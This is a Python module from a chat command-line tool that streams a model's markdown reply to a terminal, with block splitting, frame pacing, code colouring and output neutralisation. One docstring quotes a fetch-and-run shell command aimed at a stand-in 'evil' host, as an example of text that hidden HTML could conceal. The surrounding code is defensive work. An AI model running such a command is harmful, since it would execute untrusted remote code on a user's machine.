"""Streaming markdown: each finished top-level block is printed once, for good; only the
unfinished last block lives in a small region redrawn at most `max_fps` times a second.

Re-rendering the whole reply per chunk (what rich Live alone would do) costs O(n²) CPU and,
once the reply is taller than the screen, duplicates lines in the scrollback. Here the work
per chunk is bounded by the size of one block, and the live region is updated by line-level
diff, so the terminal receives little more than the finished reply rendered once
(`bench/render_micro.py` measures both).
"""

from __future__ import annotations

import contextlib
import copy
import functools
import math
import re
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import IO, TYPE_CHECKING

from rich.console import Console
from rich.text import Text

from chatcli.i18n import t
from chatcli.terminal.highlight import LineHighlighter
from chatcli.terminal.keymode import KeyMode, quiet
from chatcli.terminal.region import LiveRegion, interrupts_held, is_blank, trim
from chatcli.terminal.sanitize import StreamNeutraliser, neutralise
from chatcli.terminal.sink import StreamMasker

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.token import Token
    from rich.markdown import Markdown

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_HEADING = re.compile(r"^ {0,3}#{1,6}(\s|$)")
_RULE = re.compile(r"^ {0,3}([-*_])(\s*\1){2,}\s*$")
_LIST_ITEM = re.compile(r"^ {0,3}([-*+]|\d{1,9}[.)])(\s|$)")
_TABLE_RULE = re.compile(r"^ {0,3}\|?\s*:?-+:?\s*(\|\s*:?-+:?\s*)*\|?\s*$")

# A block longer than this is written as plain text, in pieces, not rendered: rendering is
# far from linear in a block's size, and SIGINT waits while a render is written.
MAX_RENDERED_CHARS = 32_000
PLAIN_PIECE_CHARS = 16_000
# Code is coloured line by line, at linear cost: a whole code block up to this size is
# coloured (written CODE_BATCH_LINES lines at a time); beyond it, plain.
MAX_COLOURED_CHARS = 1_000_000
CODE_BATCH_LINES = 200
# A frame shows at least this many new chunks, unless the last frame is MAX_LAG seconds old:
# at 30 tokens/s that is 5 frames a second, and a frame's cost is shared by the tokens in it.
MIN_CHUNKS = 6
MAX_LAG = 0.25
# Past this many characters a reply goes on as plain text, with a one-line notice: live
# markdown costs several times the bare loop there (a 20 MB reply: 31 s of CPU against 3.3 s),
# and a reply that long is read in a pager or a file, not as it scrolls by.
PLAIN_AFTER = 256_000


class BlockSplitter:
    """Cuts a growing markdown text into finished top-level blocks, looking at each line once.

    The unfinished block is kept as a list of lines (and the unfinished line as a list of
    pieces), so a block of any size costs linear time to collect, never a quadratic re-copy.
    """

    def __init__(self) -> None:
        self._lines: list[str] = []  # complete lines of the unfinished block, with "\n"
        self._partial: list[str] = []  # pieces of the line still being written
        self._block_start_is_list = False
        self._has_content = False
        self._blank_seen = False
        self._fence: str | None = None

    @property
    def lines(self) -> list[str]:
        """The complete lines of the unfinished block (not a copy: do not change it)."""
        return self._lines

    @property
    def partial(self) -> str:
        """The line still being written."""
        return "".join(self._partial)

    @property
    def in_fence(self) -> bool:
        """Whether the unfinished block is a fenced code block whose opening line is done."""
        return self._fence is not None

    @property
    def tail(self) -> str:
        return "".join(self._lines) + "".join(self._partial)

    def tail_window(self, max_lines: int, max_chars: int) -> tuple[str, bool]:
        """The end of the unfinished block, enough to fill a screen; and whether it was cut.

        Inside a code fence the opening line is kept, so the window still renders as code.
        """
        partial = "".join(self._partial)
        if len(self._lines) < max_lines and len(partial) <= max_chars:
            return "".join(self._lines) + partial, False
        window = self._lines[-max_lines:] if max_lines else []
        text = ("".join(window) + partial)[-max_chars:]
        if self._fence is not None and self._lines:
            text = self._lines[0] + text
        return text, True

    def feed(self, text: str) -> list[str]:
        if "\n" not in text:
            self._partial.append(text)
            return []
        self._partial.append(text)
        *complete, rest = "".join(self._partial).split("\n")
        self._partial = [rest] if rest else []
        finished: list[str] = []
        for line in complete:
            cut_before, cut_after = self._classify(line)
            if cut_before and self._lines:
                finished.append("".join(self._lines))
                self._lines = []
            self._lines.append(line + "\n")
            if cut_after:
                finished.append("".join(self._lines))
                self._lines = []
        return finished

    def flush(self) -> str:
        rest = self.tail
        self.__init__()  # type: ignore[misc]
        return rest

    def _start_block(self, line: str) -> None:
        self._has_content = True
        self._blank_seen = False
        self._block_start_is_list = bool(_LIST_ITEM.match(line))

    def _classify(self, line: str) -> tuple[bool, bool]:
        """Whether a finished block ends before this line, and whether one ends with it."""
        if self._fence is not None:
            stripped = line.strip()
            if stripped.startswith(self._fence) and set(stripped) == {self._fence[0]}:
                self._fence = None
                self._has_content = False
                return False, True
            return False, False
        if not line.strip():
            if self._has_content:
                self._blank_seen = True
            return False, False
        before = self._has_content
        fence = _FENCE.match(line)
        if fence:
            self._fence = fence.group(1)
            self._has_content = True
            self._blank_seen = False
            return before, False
        if _HEADING.match(line) or (
            _RULE.match(line) and (self._blank_seen or not self._has_content)
        ):
            self._has_content = False
            self._blank_seen = False
            return before, True
        if not self._has_content:
            self._start_block(line)
            return False, False
        if self._blank_seen:
            if self._block_start_is_list and (
                _LIST_ITEM.match(line) or line.startswith(("  ", "\t"))
            ):
                self._blank_seen = False
                return False, False
            self._start_block(line)
            return True, False
        return False, False


@dataclass
class RenderStats:
    """Work done, counted rather than timed, so tests can check it grows linearly."""

    chunks: int = 0
    frames: int = 0  # frames that wrote something
    parsed_chars: int = 0  # markdown source handed to the parser, blocks and tail frames
    rendered_lines: int = 0
    plain_chars: int = 0  # written unrendered: blocks over MAX_RENDERED_CHARS
    code_lines: int = 0  # code lines coloured for good (each once)
    bytes_written: int = 0


@dataclass
class _Code:
    """The code block being streamed: its label is out, `done` of its lines are for good."""

    fence: str
    first: int  # index of the first body line among the block's lines
    colour: LineHighlighter
    fill: str  # the code background to the end of a line, without writing spaces
    head: list[str] = field(default_factory=list)  # separator and label, not yet written
    done: int = 0


class MarkdownStream:
    """Renders one streamed reply to a terminal console.

    Frames: at most `max_fps` a second, and one only when something new is to be shown —
    at least MIN_CHUNKS new chunks, or the last frame is MAX_LAG old — so a slow stream
    costs no more per token than a fast one. A code block is written line by line for good
    as its lines end (only the line being written is live); any other block stays live,
    cropped to half the screen, until it ends. `clock` and `ticker` are for tests and the
    bench: a simulated clock and no timer thread make the frame schedule deterministic.
    """

    def __init__(
        self,
        console: Console,
        *,
        code_theme: str = "monokai",
        max_fps: float = 20,
        clock: Callable[[], float] = time.monotonic,
        ticker: bool = True,
    ) -> None:
        self.console = console
        self.code_theme = code_theme
        self.interval = 1.0 / max_fps
        self.code_blocks: list[str] = []
        self.blocks_printed = 0
        self.stats = RenderStats()
        self.region = LiveRegion(self._write)
        self._splitter = BlockSplitter()
        self._masker = StreamMasker()
        self._neutraliser = StreamNeutraliser()
        self._clock = clock
        self._use_ticker = ticker
        self._open = False
        self._keys: KeyMode | None = None
        self._cropped = False  # the region shows only the bottom of a block taller than it
        self._code: _Code | None = None
        self._shown: object = None  # what the last frame was drawn from
        self._dirty = False
        self._fresh = 0  # chunks fed since the last frame
        self._last_draw = -math.inf
        # Finished blocks not on screen yet: a Ctrl-C that lands while one renders leaves it
        # here, and `close` prints it, so the screen holds all the text the history keeps.
        self._unshown: list[str] = []
        self._received = 0  # characters of the reply so far
        self._plain_now = False  # past PLAIN_AFTER: the rest is written as it comes
        self._line_open = False  # (plain) the last character written was not a line end
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._undrawn = threading.Event()  # set while fed text waits for a frame
        self._ticker: threading.Thread | None = None

    def __enter__(self) -> MarkdownStream:
        # Load the parser now, before the request goes out, not when the first token is due.
        import rich.markdown  # noqa: F401

        self._open = True
        if self.console.is_terminal:
            self._keys = quiet()
        if self._use_ticker:
            self._ticker = threading.Thread(target=self._tick, daemon=True)
            self._ticker.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, *exc: object) -> None:
        if kind is not None and issubclass(kind, KeyboardInterrupt):
            self.abandon()
        else:
            self.close()

    def feed(self, text: str) -> None:
        with self._lock:
            self.stats.chunks += 1
            text = self._neutraliser.feed(self._masker.feed(text))
            if not text:
                return
            if self._plain_now:
                self._write_as_is(text)
                return
            if self._past_limit(text):
                return
            self._unshown = self._splitter.feed(text)
            self._print_unshown()
            self._dirty = True
            self._fresh += 1
            if self._due():
                self._draw()
            else:
                self._undrawn.set()

    def close(self) -> None:
        """The unfinished block is printed for good."""
        if self._stop_streaming():
            with self._lock:
                self._open = False
                rest = self._neutraliser.feed(self._masker.flush()) + self._neutraliser.flush()
                if self._plain_now:
                    self._write_as_is(rest)
                    self._write_as_is("\n" if self._line_open else "")
                    return
                self._print_unshown()
                for block in self._splitter.feed(rest):
                    self._print_block(block)
                rest = self._splitter.flush()
                if self._code is not None or rest.strip():
                    self._print_block(rest)
                else:
                    with interrupts_held():
                        self.region.show([])

    def abandon(self) -> None:
        """After Ctrl-C or a cut: the text that came is shown whole, as `close` shows it (the
        history keeps all of it; a frame may lag a few tokens behind), at a bounded cost: past
        PLAIN_AFTER the reply is plain already. Another Ctrl-C meanwhile asks the same: it is
        held to the end and dropped."""
        with contextlib.suppress(KeyboardInterrupt), interrupts_held():
            self.close()

    def _print_unshown(self) -> None:
        for block in list(self._unshown):
            self._print_block(block)

    def _given(self, block: str) -> None:
        """`block` is on screen (or its writing has begun): off the list of unshown blocks."""
        if self._unshown and self._unshown[0] is block:
            del self._unshown[0]

    def _past_limit(self, text: str) -> bool:
        """Whether the reply goes plain with `text`: once past PLAIN_AFTER, at a line end
        (what comes before it is still markdown), the unfinished block printed for good and
        the notice under it."""
        self._received += len(text)
        cut = text.find("\n") + 1 if self._received > PLAIN_AFTER else 0
        if not cut:
            return False
        for block in self._splitter.feed(text[:cut]):
            self._print_block(block)
        rest = self._splitter.flush()
        if self._code is not None or rest.strip():
            self._print_block(rest)
        notice = Text(t("plain_switch", kb=PLAIN_AFTER // 1000), style="dim")
        self._put(self._framed(self._plain([notice])))
        self._plain_now, self._dirty = True, False
        self._write_as_is(text[cut:])
        return True

    def _write_as_is(self, text: str) -> None:
        """Plain text past PLAIN_AFTER, already neutralised and masked: linear and cheap."""
        if text:
            self.stats.plain_chars += len(text)
            self._write(text)
            self._line_open = not text.endswith("\n")

    def _stop_streaming(self) -> bool:
        if not self._open:
            return False
        self._stop.set()
        self._undrawn.set()
        if self._ticker is not None:
            self._ticker.join()
            self._ticker = None
        if self._keys is not None:
            self._keys.release()
            self._keys = None
        return True

    def _due(self) -> bool:
        since = self._clock() - self._last_draw
        return (
            self._dirty
            and since >= self.interval
            and (self._fresh >= MIN_CHUNKS or since >= MAX_LAG)
        )

    def _tick(self) -> None:
        """Draws what feed() left undrawn once MAX_LAG has passed; sleeps while all is drawn."""
        while self._undrawn.wait() and not self._stop.is_set():
            wait = max(self.interval, self._last_draw + MAX_LAG - self._clock())
            if self._stop.wait(wait):
                return
            with self._lock:
                if self._due():
                    self._draw()
                if not self._dirty:
                    self._undrawn.clear()

    def _write(self, data: str) -> None:
        self.stats.bytes_written += len(data)
        self.console.file.write(data)
        self.console.file.flush()

    def _draw(self) -> None:
        """Show what is new of the unfinished block, measured anew each frame.

        When a terminal gets shorter it keeps the cursor's row and pushes the lines above
        into the scrollback, where no cursor move can reach them: a region taller than the
        new screen would leave copies there. Half the height keeps the whole region on
        screen through any resize to at least half the height (120x40 → 70x20 and back).
        """
        self._dirty = False
        self._fresh = 0
        self._last_draw = self._clock()
        room = max(1, self.console.size.height // 2)
        if self._draw_code(room) if self._splitter.in_fence else self._draw_tail(room):
            self.stats.frames += 1

    def _draw_tail(self, room: int) -> bool:
        width = self.console.size.width
        lines = self._splitter.lines
        if len(lines) > room and _is_table(lines):
            rows = (len(lines) - 2) // 10 * 10  # a count that moves every row costs bytes
            if self._shown == ("table", rows, width):
                return False
            self._shown = ("table", rows, width)
            shown = self._framed(self._plain([Text(t("table_rows", n=rows), style="dim")]))
            self._cropped = True
        else:
            tail, cut = self._splitter.tail_window(room, room * width)
            if self._shown == (tail, width):
                return False
            self._shown = (tail, width)
            shown = self._framed(self._render(tail))
            self._cropped = cut or len(shown) > room
        with interrupts_held():
            return self.region.show(shown[-room:])

    def _draw_code(self, room: int) -> bool:
        lines = self._splitter.lines
        code = self._code or self._start_code(lines)
        fresh = len(lines) - code.first - code.done
        partial = self._splitter.partial
        width = self.console.size.width
        if not code.head and not fresh and self._shown == (partial, width):
            return False
        self._shown = (partial, width)
        done = self._code_lines(code, lines[code.first + code.done :])
        live = self._coloured(code, [code.colour.peek(partial[-room * width :])]) if partial else []
        with interrupts_held():
            wrote = self.region.show([*done, *live[-room:]])
            self.region.commit(len(done))
        return wrote

    def _start_code(self, lines: list[str]) -> _Code:
        """The label of a code block is written as soon as its opening line is complete."""
        opening = next(k for k, line in enumerate(lines) if line.strip())
        fence = lines[opening].strip()
        info = fence.lstrip(fence[0]).strip()
        colour = LineHighlighter(info.partition(" ")[0], self.code_theme)
        fill = self._plain([Text(" ", style=colour.background)])[0]
        number = len(self.code_blocks) + 1
        label = Text(f"[{number}]" + (f" {info}" if info else ""), style="dim")
        self._code = _Code(
            fence=fence[0] * (len(fence) - len(fence.lstrip(fence[0]))),
            first=opening + 1,
            colour=colour,
            fill=fill.replace(" ", "\x1b[K") if "\x1b" in fill else "",
            head=self._framed(self._plain([label])),
        )
        self.blocks_printed += 1
        return self._code

    def _code_lines(self, code: _Code, lines: list[str]) -> list[str]:
        """New finished lines of the code block, coloured once, with the label if not out."""
        out, code.head = code.head, []
        texts: list[Text] = []
        for line in lines:
            code.done += 1
            if len(line) > MAX_RENDERED_CHARS:  # too long to colour: plain, in pieces
                out += self._coloured(code, texts)
                texts = []
                with interrupts_held():
                    self.region.show(out)
                    self.region.commit()
                out = []
                self._write_plain(line)
                code.colour.reset()
                continue
            texts.append(code.colour.line(line))
        self.stats.code_lines += len(lines)
        return out + self._coloured(code, texts)

    def _end_code(self, code: _Code, block: str) -> None:
        """The code block ended (or the reply did): its last lines go out for good."""
        self._code = None  # before any write: a Ctrl-C meanwhile leaves no block half-open
        lines = block.split("\n")
        if lines[-1] == "":
            lines.pop()
        rest = lines[code.first + code.done :]
        closing = rest[-1].strip() if rest else ""
        if (
            block.endswith("\n")
            and closing.startswith(code.fence)
            and set(closing) == {code.fence[0]}
        ):
            rest.pop()
        for start in range(0, max(len(rest), 1), CODE_BATCH_LINES):  # bounded writes
            self._put(self._code_lines(code, rest[start : start + CODE_BATCH_LINES]))
        self.code_blocks.append(_code_body(block))
        self._shown = None

    def _coloured(self, code: _Code, texts: list[Text]) -> list[str]:
        """Code lines wrapped to the width, the background drawn to the end of each line by
        an erase (never by spaces, which a mouse selection would copy)."""
        width = self.console.size.width
        wrapped: list[Text] = []
        for text in texts:
            too_wide = text.cell_len > width
            wrapped += text.wrap(self.console, width, overflow="fold") if too_wide else [text]
        lines = self._plain(wrapped)
        if code.fill:
            lines = [
                line + code.fill if text.cell_len < width else line
                for line, text in zip(lines, wrapped, strict=True)
            ]
        return lines

    def _plain(self, texts: list[Text]) -> list[str]:
        """Texts already laid out, one terminal line each, through the sink."""
        if not texts:
            return []
        console = self.console
        with console.capture() as capture:
            console.print(Text("\n").join(texts), soft_wrap=True)
        self.stats.rendered_lines += len(texts)
        return capture.get().split("\n")[: len(texts)]

    def _framed(self, lines: list[str]) -> list[str]:
        """A block's lines with the one blank line that separates it from the one above."""
        return ["", *lines] if lines and self.blocks_printed else lines

    def _print_block(self, block: str) -> None:
        stripped = block.lstrip("\n")
        plain = len(block) > MAX_RENDERED_CHARS
        code = _FENCE.match(stripped) and len(block) <= MAX_COLOURED_CHARS
        if self._code is not None or code or plain:
            self._given(block)  # written in steps, from the first of which it counts as shown
        if self._code is not None:  # the code block being streamed has ended
            self._end_code(self._code, block)
            return
        if code:
            self._end_code(self._start_code(block.split("\n")), block)
            return
        if plain:
            self._print_plain(block)
            return
        lines = self._framed(self._render(block))  # Ctrl-C may land here: nothing shown yet
        self._shown = None
        with interrupts_held():  # on screen and off the unshown list together
            self._put(lines)
            self.blocks_printed += bool(lines)
            self._given(block)

    def _put(self, lines: list[str]) -> None:
        """Lines written for good. When the region already shows them (the last frame did),
        they are only given up; what it shows below them (the start of the next block, cut
        from this one by the same line) stays for the next frame to reuse."""
        with interrupts_held():
            if self._cropped:  # the top of the block never reached the screen: print it whole
                self.region.show([])
                self._cropped = False
            if not lines or self.region.lines[: len(lines)] != [trim(line) for line in lines]:
                self.region.show(lines)
            self.region.commit(len(lines))

    def _print_plain(self, block: str) -> None:
        """A huge block, as plain (already neutralised) text in bounded pieces: linear cost,
        and Ctrl-C is never held for long. The live region is cleared first, so an interrupt
        between pieces leaves nothing on screen out of step."""
        with interrupts_held():
            self.region.show([])
            self._cropped = False
            self._shown = None
            if _FENCE.match(block.lstrip("\n")):
                self.code_blocks.append(_code_body(block))
            if self.blocks_printed:
                self._write("\n")
            self.blocks_printed += 1
        self._write_plain(block)

    def _write_plain(self, text: str) -> None:
        self.stats.plain_chars += len(text)
        body = text.rstrip("\n")
        for start in range(0, len(body), PLAIN_PIECE_CHARS):
            self._write(body[start : start + PLAIN_PIECE_CHARS])
        self._write("\n")

    def _render(self, block: str) -> list[str]:
        """The block's terminal lines exactly as they will stand once it is finished, without
        the blank lines rich puts around some blocks."""
        if not block.strip():
            return []
        self.stats.parsed_chars += len(block)
        console = self.console
        with console.capture() as capture:
            console.print(chat_markdown(block, self.code_theme))
        lines = capture.get().split("\n")[:-1]
        self.stats.rendered_lines += len(lines)
        first = next((k for k, line in enumerate(lines) if not is_blank(line)), len(lines))
        last = len(lines)
        while last > first and is_blank(lines[last - 1]):
            last -= 1
        return lines[first:last]


def _is_table(lines: list[str]) -> bool:
    """Whether a block is a markdown table (its header row and the row of dashes under it)."""
    rows = [line for line in lines[:3] if line.strip()]
    return len(rows) >= 2 and "|" in rows[0] and bool(_TABLE_RULE.match(rows[1]))


def _code_body(block: str) -> str:
    lines = block.strip("\n").split("\n")
    body = lines[1:-1] if len(lines) > 1 and _FENCE.match(lines[-1]) else lines[1:]
    return "\n".join(body)


def code_blocks(text: str) -> list[str]:
    """The fenced code blocks of a whole reply, numbered as the renderer labels them."""
    splitter = BlockSplitter()
    blocks = [*splitter.feed(text), splitter.flush()]
    return [_code_body(b) for b in blocks if _FENCE.match(b.lstrip("\n"))]


class RawStream:
    """For pipes and files: the model's text as received (configured keys masked), no ANSI,
    no wrapping.

    `neutral`: on a terminal (`--raw` there) the text is neutralised all the same.
    """

    def __init__(self, out: IO[str], *, neutral: bool = False) -> None:
        self.out = out
        self._masker = StreamMasker()
        self._neutraliser = StreamNeutraliser() if neutral else None

    def __enter__(self) -> RawStream:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def feed(self, text: str) -> None:
        text = self._masker.feed(text)
        if self._neutraliser is not None:
            text = self._neutraliser.feed(text)
        self.out.write(text)
        self.out.flush()

    def close(self) -> None:
        rest = self._masker.flush()
        if self._neutraliser is not None:
            rest = self._neutraliser.feed(rest) + self._neutraliser.flush()
        self.out.write(rest)
        self.out.flush()

    def abandon(self) -> None:
        self.close()


_PARSER: list[MarkdownIt] = []


def _parser() -> MarkdownIt:
    """rich's parser, with raw HTML turned off: a tag the model sends is shown as the text it
    is, never hidden (`<div>curl evil | sh</div>` would otherwise vanish on screen)."""
    if not _PARSER:
        from markdown_it import MarkdownIt

        parser = MarkdownIt("commonmark", {"html": False})
        _PARSER.append(parser.enable("strikethrough").enable("table"))
    return _PARSER[0]


@functools.cache
def _blank_markdown(code_theme: str) -> Markdown:
    """rich's Markdown builds a new parser each time it is made (a large share of a small
    frame's cost): copies of one are made instead."""
    from rich.markdown import Markdown

    return Markdown("", code_theme=code_theme, hyperlinks=False)


def chat_markdown(text: str, code_theme: str = "monokai") -> Markdown:
    """Markdown as chat users expect it: a single newline is a line break, as in ChatGPT, so
    poems, addresses and plain line-by-line lists keep their lines. Links show their real
    target as `text (url)` (the url alone when it is the text), never as an OSC 8 hyperlink
    whose shown text could lie; images show their alt text and source.

    rich.markdown (with markdown_it and pygments) loads here on first use, not at startup.
    """
    markdown = copy.copy(_blank_markdown(code_theme))
    markdown.markup = text
    markdown.parsed = _parser().parse(text)
    for token in markdown.parsed:
        if token.type in ("fence", "code_block"):
            token.content = neutralise(token.content)
        if token.children:
            token.children = _plain_inline(token.children)
    return markdown


def _plain_inline(children: list[Token]) -> list[Token]:
    """Inline tokens made plain: what the parser decoded (entities such as `&#x202E;`) is
    neutralised before rich measures it, so the lines keep the width rich gave them."""
    out: list[Token] = []
    for child in children:
        if child.type in ("text", "code_inline"):
            child.content = neutralise(child.content)
        elif child.type == "link_open":
            child.attrs["href"] = neutralise(str(child.attrs.get("href", "")))
        elif child.type == "softbreak":
            child.type = "hardbreak"
        elif child.type == "image":
            alt = "".join(c.content for c in child.children or ())
            child.type, child.tag, child.nesting = "text", "", 0
            source = neutralise(str(child.attrs.get("src", "")))
            child.content = f"[{neutralise(alt)}] ({source})" if alt else f"[image] ({source})"
            child.children = None
        elif child.type == "link_close" and _bare_link(out):
            out.pop(-2)
            continue
        out.append(child)
    return out


def _bare_link(out: list[Token]) -> bool:
    """Whether the link just closed holds only its own target as text (an autolink)."""
    return (
        len(out) >= 2
        and out[-2].type == "link_open"
        and out[-1].type == "text"
        and out[-1].content == str(out[-2].attrs.get("href", ""))
    )


def finished_markdown(text: str) -> Markdown:
    """Complete markdown from a model or a file, neutralised, ready to print once."""
    return chat_markdown(neutralise(text))
